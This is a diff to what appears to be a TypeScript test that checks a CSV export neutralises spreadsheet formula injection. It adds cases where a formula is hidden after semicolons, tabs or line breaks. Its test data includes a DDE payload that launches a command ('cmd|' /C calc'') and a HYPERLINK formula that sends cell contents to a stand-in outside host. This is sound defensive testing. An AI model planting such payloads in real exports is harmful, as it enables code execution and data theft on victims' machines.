@@ -20,6 +20,13 @@ const FORMULAS = [
   "cmd|' /C calc'!A0",
   'HYPERLINK("https://elsewhere.example/?"&A1,"x")',
 ];
+/** Cells with a formula for spreadsheets that split at other characters than commas. */
+const WITHIN = [';', ';"', ';""', '\t', '\r\n'].flatMap((cut) =>
+  STARTS.filter((start) => start.trim() !== '').map((start) => `a${cut}${start}1+1;b`),
+);
+const START = `[${STARTS.join('').replace('-', '\\-')}]`;
+const BEGINS = new RegExp(`^(?=${START})`);
+const BEGINS_WITHIN = new RegExp(`([;\t\r\n]"*)(?=${START})`, 'g');
 /** What is no formula, but must come back as it was. */
 const PLAIN = [
   'ana',
@@ -27,7 +34,8 @@ const PLAIN = [
   '"',
   '""',
   ',',
-  ';=1+1',
+  ';1+1',
+  'a; "b"',
   'a\nb',
   'a\r\nb',
   "'=1",
@@ -35,7 +43,11 @@ const PLAIN = [
   '名前',
   '1e9',
 ];
-const texts = [...STARTS.flatMap((start) => FORMULAS.map((rest) => start + rest)), ...PLAIN];
+const texts = [
+  ...STARTS.flatMap((start) => FORMULAS.map((rest) => start + rest)),
+  ...WITHIN,
+  ...PLAIN,
+];
 
 export const inertCsv: Proof = {
   id: 'V5',
@@ -80,7 +92,7 @@ export async function exportTexts(engine: string, program: string = PROGRAM): Pr
       waitlist.map(({ email }) => email),
       texts.map((text) => `${text}@example.com`),
     );
-    return `${texts.length} texts, ${STARTS.length * FORMULAS.length} of them formulas, in ${analytics.length} rows of figures and ${waitlist.length} of the waitlist: 0 cells begin one, all others as they were`;
+    return `${texts.length} texts, ${STARTS.length * FORMULAS.length + WITHIN.length} of them formulas, in ${analytics.length} rows of figures and ${waitlist.length} of the waitlist: 0 cells begin one, all others as they were`;
   } finally {
     await storage.close();
     await server.stop();
@@ -112,11 +124,12 @@ function rowsOf(csv: string): Record<string, string>[] {
 }
 
 function requireCells(cells: (string | undefined)[], originals: readonly string[]): void {
-  const running = cells.filter((cell = '') => STARTS.some((start) => cell.startsWith(start)));
+  const running = cells.filter(
+    (cell = '') => BEGINS.test(cell) || cell.search(BEGINS_WITHIN) !== -1,
+  );
   require(running.length === 0, `A cell begins a formula: ${JSON.stringify(running[0])}`);
-  const inert = (text: string) =>
-    STARTS.some((start) => text.startsWith(start)) ? `'${text}` : text;
-  const missing = originals.map(inert).filter((text) => !cells.includes(text));
+  const inert = originals.map((text) => text.replace(BEGINS_WITHIN, "$1'").replace(BEGINS, "'"));
+  const missing = inert.filter((text) => !cells.includes(text));
   require(missing.length === 0, `A cell did not come back: ${JSON.stringify(missing[0])}`);
   require(cells.length === originals.length, `There are ${cells.length} rows.`);
 }
